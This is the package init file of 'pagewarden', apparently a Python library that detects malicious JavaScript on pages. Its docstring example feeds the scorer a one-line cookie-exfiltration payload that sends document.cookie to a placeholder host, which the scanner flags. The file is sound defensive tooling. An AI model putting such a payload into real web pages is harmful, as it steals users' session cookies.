"""pagewarden finds malicious JavaScript on web pages.

>>> import pagewarden
>>> scorer = pagewarden.Scorer()
>>> report = scorer.score("new Image().src = '//c.example/?' + document.cookie")
>>> report.findings[0].signal
'all-cookies-sent'

`Scorer` scores scripts, `FeedSet` looks up hosts and URLs in threat feeds, `Engine` combines both into verdicts on scripts,
connections and pages. `Scorer.score_arrow` and `FeedSet.check_hosts_arrow` take whole columns, `pagewarden.spark` whole corpora.
The guide is docs/python.md of the repository.
"""

from __future__ import annotations

from ._categories import CategorySet
from ._errors import ArrowError, FeedError, HostError, ModelError, PagewardenError, UrlError
from ._models import register_model
from ._native import (
    ArrowArray,
    ArrowStream,
    Engine,
    Feed,
    FeedAnswer,
    FeedMatch,
    FeedSet,
    Finding,
    PageReport,
    ScoreMany,
    Scorer,
    ScriptReport,
    Verdict,
    __version__,
    evaluate,
    guess_names,
)

__all__ = [
    "ArrowArray",
    "ArrowError",
    "ArrowStream",
    "CategorySet",
    "Engine",
    "Feed",
    "FeedAnswer",
    "FeedError",
    "FeedMatch",
    "FeedSet",
    "Finding",
    "HostError",
    "ModelError",
    "PageReport",
    "PagewardenError",
    "ScoreMany",
    "Scorer",
    "ScriptReport",
    "UrlError",
    "Verdict",
    "__version__",
    "evaluate",
    "guess_names",
    "register_model",
]
